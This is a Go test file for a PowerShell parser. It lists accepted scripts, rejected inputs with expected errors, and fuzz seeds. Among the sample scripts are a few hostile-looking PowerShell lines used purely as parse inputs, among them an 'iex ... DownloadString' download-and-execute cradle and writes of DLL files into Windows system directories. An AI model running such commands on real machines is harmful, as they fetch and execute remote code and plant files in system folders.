package syntax

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed-67b27da2/geiger/testdata"
)

// accepted holds one script per construct of the language.
var accepted = []string{
	"", "# comment", "<# a\nb #> 1", "Get-Item C:\\x -Force; gci | % { $_.Name }",
	"$a = 1; $a += 2; $a,$b = 1,2; [int]$x = '3'; $x.y[0] = @(1,2)",
	"if ($a -eq 1) { 'x' } elseif (!$b) { 2 } else { 3 }",
	"while ($true) { break }; do { $i++ } while ($i -lt 3); do { --$i } until ($i -le 0)",
	"for ($i = 0; $i -lt 3; $i++) { continue }\nfor (;;) { break }",
	":outer foreach ($x in 1..3) { foreach ($y in gci C:\\) { break outer } }",
	"switch -regex ($x) { 'a.*' { 1 } {$_ -gt 2} { 2 } default { 3 } }\nswitch -wildcard -casesensitive (gci) { a* { 1 } }",
	"try { throw 'x' } catch [System.IO.IOException], [System.Exception] { $_ } finally { 1 }",
	"trap [Exception] { continue }; 1",
	"function f($a, [int]$b = 3) { return $a + $b }; f 1 -b 2; filter g { $_ }",
	"function Get-X { [CmdletBinding(SupportsShouldProcess)] param([Parameter(Mandatory=$true, Position=0)][string[]]$Name = 'a', [switch]$S) begin { 1 } process { 2 } end { 3 } }",
	"class P : B, I { [int]$x = 1; static [string] $y; hidden $z; P([int]$a) : base($a) { $this.x = $a } [int] Get() { return $this.x } }",
	"enum Color { Red; Green = 5\n Blue }", "using namespace System.IO\n[File]::Exists('x')",
	"data m -SupportedCommand ConvertTo-X { 'a' }", "$x = @'\na'b\n'@\n$y = @\"\nx $a $($b.c)\n\"@",
	"\"a $b ${c d} $($e.f) $env:x `n \"\" `$\"", "'it''s'", "f @args @{a=1; 'b' = 2\n c = if ($x) { 1 } }", "$h = [ordered]@{ a = 1; b-c = 2 }",
	"$x -is [string] -and -not ($y -as [int])", "[System.IO.File]::WriteAllBytes(\"$env:windir\\a.dll\", [byte[]](0x4D,0x5A,0x90))",
	"$x.Method('a', 1 + 2, @(1,2), { $_ }).Other()[0].'quoted name'.$dyn.($p + 'q')",
	"1..10 -join ','; 'a,b' -split ','; -split 'a b'; -join 1,2; '{0:x}' -f 12,3; 'a' -replace 'b','c'; 5 % 3; 7 -band 3; 1kb + 2MB * 1.5e3 - .5; 10L; 1.5d",
	"cmd /c \"echo a\" 2>&1 > out.txt; foo *> x; foo 2>> y 3>&1", "icacls --% c:\\x /grant Users:(F) | findstr x", "& \"$env:windir\\x.exe\" list module /name:Foo,Bar -section:a.b/c",
	"& { param($x) $x } 3; . .\\a.ps1; . { 1 }; &$sb", "echo $env:TEMP\\x $a.b\\c \"a\"b a\"b\"c $x/$y $($a)b", "Get-Item `\n  -Path x |\n  Select -First 1", "[Collections.Generic.List[string]]$l = New-Object 'Collections.Generic.List[string]'; [Dictionary[string,int]]::new()",
	"$a[0..2]; $a[-1]; $h['k']; $a.Count", "foreach ($i in $a) { }", "7z.exe x; 1.exe", "$null = $x; $script:y = 1; $global:z; ${env:ProgramFiles(x86)}", "gci -Filter:*.txt -Recurse:$false", "return", "exit 1", "throw", "$(1;2)", "@(foreach ($x in 1) { $x }).Length", "iex(New-Object Net.WebClient).DownloadString('http://x')",
	"%{ $_ }; ?{ $_ }", "write-host –ForegroundColor red “smart”", "$a = $b = 3", "[ValidateSet('a','b')]$x = 'a'", "param([string]$a, $b = (1,2)) $a", "$x = if ($a) { 1 } else { 2 }", "echo a,b , c", "'a'.Length", "(1).ToString()", "[int]::MaxValue", "[void](f)", "!$x", "$x++ ; ++$x", ",1", "1,(2,3),@(4)", "$a -f 1,2", "\"$x.y $x[0] $($x[0])\"", "f -a: 1", "reg add HKLM\\x /v a /t REG_SZ /d \"x\" /f", "wmic process where name='x' get a", "Set-Content -Path $env:windir\\System32\\inetsrv\\df00tech-test.dll -Value x",
	"[scriptblock]$b = { 1 }", "$a.b.c += 1", "f { a } { b }", "1 | % { $_ } | Out-Null", "$d = [datetime]'2020-01-01'", "f 'a','b'", "[type[]]@([int],[string])", "$x -notin 1,2 -or $y -cmatch 'a'", "workflow w { 1 }", "try { 1 } finally { 2 }",
}

func TestAccepts(t *testing.T) {
	for _, text := range accepted {
		_, err := Parse(&Source{Text: text})
		require.NoError(t, err, text)
	}
}

func TestRejects(t *testing.T) {
	for text, want := range map[string]string{
		"(1":                  "line:1:1: Missing closing ')' in expression.",
		"foo {":               "line:1:5: Missing closing '}' in statement block or type definition.",
		"\"abc":               "line:1:1: The string is missing the terminator: \".",
		"'abc":                "line:1:1: The string is missing the terminator: '.",
		"a && b":              "line:1:3: The token '&&' is not a valid statement separator in this version.",
		"1 +":                 "line:1:3: You must provide a value expression following the '+' operator.",
		"if () { }":           "line:1:5: Missing condition in if statement after 'if ('.",
		"a |":                 "line:1:3: An empty pipe element is not allowed.",
		"a\nb | 1":            "line:2:5: Expressions are only allowed as the first element of a pipeline.",
		"1 2":                 "line:1:3: Unexpected token '2' in expression or statement.",
		"try { }":             "line:1:8: The Try statement is missing its Catch or Finally block.",
		"a }":                 "line:1:3: Unexpected token '}' in expression or statement.",
		"@{ a }":              "line:1:6: Missing '=' operator after key in hash literal.",
		"1 = 2":               "line:1:1: The assignment expression is not valid.",
		"$x = ":               "line:1:6: You must provide a value expression following the '=' operator.",
		"[int":                "line:1:1: Missing ] at end of attribute or type literal.",
		"f <x":                "line:1:3: The '<' operator is reserved for future use.",
		"function { }":        "line:1:10: Missing name after function keyword.",
		"<# x":                "line:1:1: The terminator '#>' is missing from the multiline comment.",
		"cmd & dir":           "line:1:5: The ampersand (&) character is not allowed.",
		"@'\nabc":             "line:1:1: The string is missing the terminator: '@.",
		"foreach (x in 1) {}": "line:1:10: Missing variable name after foreach.",
	} {
		_, err := Parse(&Source{Text: text})
		require.Error(t, err, text)
		require.Contains(t, err.Error(), want, text)
		var syn *Error
		require.ErrorAs(t, err, &syn)
		require.NotEmpty(t, syn.ID)
	}
}

func TestErrorShowsTheLineAndACaret(t *testing.T) {
	_, err := Parse(&Source{Name: "a.ps1", Text: "$x = 1\n$y = (2\n"})
	require.EqualError(t, err, "a.ps1:2:6: Missing closing ')' in expression.\n  $y = (2\n       ^")
}

func TestNaturalFormsParse(t *testing.T) {
	forms := testdata.NaturalForms(t)
	require.GreaterOrEqual(t, len(forms), 37)
	for _, f := range forms {
		_, err := Parse(&Source{Text: f})
		require.NoError(t, err, f)
	}
}

func TestHarnessScriptsParse(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("..", "..", "..", "winrm", "scripts", "*.ps1"))
	require.NoError(t, err)
	require.NotEmpty(t, files)
	for _, f := range files {
		data, err := os.ReadFile(f)
		require.NoError(t, err)
		_, err = Parse(&Source{Name: filepath.Base(f), Text: string(data)})
		require.NoError(t, err)
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range accepted {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		s, err := Parse(&Source{Text: text})
		if (s == nil) == (err == nil) {
			t.Fatalf("want a tree or an error, got %v and %v", s, err)
		}
	})
}
